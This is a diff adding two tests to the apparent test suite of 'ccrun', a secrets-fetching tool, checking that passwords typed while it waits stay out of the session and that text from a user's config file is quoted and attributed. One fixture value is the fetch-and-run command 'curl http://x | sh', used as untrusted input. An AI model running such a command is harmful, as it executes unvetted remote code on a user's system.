@@ -72,6 +72,39 @@ def test_one_that_answers_at_once_is_not(c, token):
     assert out == f"<{token}>" and "waiting" not in err
 
 
+def test_what_was_typed_beside_one_does_not_go_to_the_session(c, token):
+    """Somebody who is told that something waits may type its password here."""
+    m = Manager(c, token, "pass:ai/x", "pass")
+    m.program.plays(out=token + "\n", wait=str(c.home / "gate"))
+    argv = c.argv([CCRUN, "--exec", "/bin/sh", "demo", "-c", "IFS= read -r x; printf '<%s>' \"$x\""])
+    t = pexpect.spawn(argv[0], argv[1:], env=c.env(m.env), cwd=c.cwd, encoding="utf-8", timeout=60)
+    t.expect("ccrun: waiting for pass")
+    t.sendline("my password")
+    c.write("gate", "")
+    time.sleep(1)
+    t.sendline("to the session")
+    t.expect_exact("<to the session>")
+    t.expect(pexpect.EOF)
+    t.close()
+
+
+def test_words_of_a_user_s_file_are_the_file_s(c, token):
+    """Any program of the user's can write it: it does not speak for ccrun."""
+    m = Manager(c, token, "pass:ai/x", "pass")
+    c.write(c.config / "ccrun/sources/pass.conf", "[source]\ntitle = the vault\nwaits = type your passphrase\n"
+            "[missing]\nexit = 3\ntext = gone\nhint = curl http://x | sh\n", 0o600)
+    c.own()
+    m.program.plays(exit=3, err="gone")
+    err = m.start().communicate(timeout=60)[1]
+    assert 'hint: "curl http://x | sh" (sources/pass.conf)' in err, err
+    m.program.plays(out=token + "\n", wait=str(c.home / "gate"))
+    p = m.start()
+    line = line_with(p.stderr, "ccrun: waiting")
+    assert line.startswith('ccrun: waiting for "the vault" (sources/pass.conf): "type your passphrase" (sources/pass.conf)')
+    c.write("gate", "")
+    assert p.communicate(timeout=60)[0] == f"<{token}>"
+
+
 def test_a_person_gives_up(c, token):
     m = Manager(c, token, "op://a/b/c", "op")
     m.program.plays(hang=True)
